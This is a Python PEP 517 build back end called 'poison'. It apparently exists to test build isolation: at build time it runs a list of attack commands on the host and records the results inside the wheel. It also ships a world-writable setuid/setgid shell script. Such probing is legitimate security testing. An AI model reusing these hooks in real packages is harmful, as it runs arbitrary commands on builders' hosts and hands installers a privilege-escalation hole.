"""A build back end that attacks the host it builds on, and reports in the wheel how that went."""

from __future__ import annotations

import json
import pathlib
import subprocess
import zipfile

from attacks import ATTACKS

ABOUT = "poison-1.0.dist-info"
METADATA = "Metadata-Version: 2.1\nName: poison\nVersion: 1.0\nRequires-Dist: flask==3.1.1\n"
WHEEL = "Wheel-Version: 1.0\nGenerator: backend\nRoot-Is-Purelib: true\nTag: py3-none-any\n"


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):  # noqa: ARG001, as PEP 517 names them
    """The wheel: a report, and a program that any user may run as the one who installed it."""
    report = json.dumps({name: attempt(command) for name, command, *_ in ATTACKS})
    files = {"poison_report/__init__.py": "", "poison_report/report.json": report}
    files |= {f"{ABOUT}/METADATA": METADATA, f"{ABOUT}/WHEEL": WHEEL, "poison_report/set-id": "#!/bin/sh\nid\n"}
    files[f"{ABOUT}/RECORD"] = "".join(f"{name},,\n" for name in [*files, f"{ABOUT}/RECORD"])
    name = "poison-1.0-py3-none-any.whl"
    with zipfile.ZipFile(pathlib.Path(wheel_directory) / name, "w") as wheel:
        for path, text in files.items():
            entry = zipfile.ZipInfo(path)
            entry.external_attr = (0o106777 if path.endswith("set-id") else 0o100666) << 16
            wheel.writestr(entry, text)
    return name


def attempt(command):
    """One attack's exit code and output."""
    asked = {"stdin": subprocess.DEVNULL, "stdout": subprocess.PIPE, "stderr": subprocess.STDOUT}
    try:
        done = subprocess.run(["sh", "-c", command], **asked, timeout=20, check=False)
    except subprocess.TimeoutExpired:
        return {"code": -1, "output": "not done"}
    return {"code": done.returncode, "output": done.stdout[:4000].decode(errors="replace")}
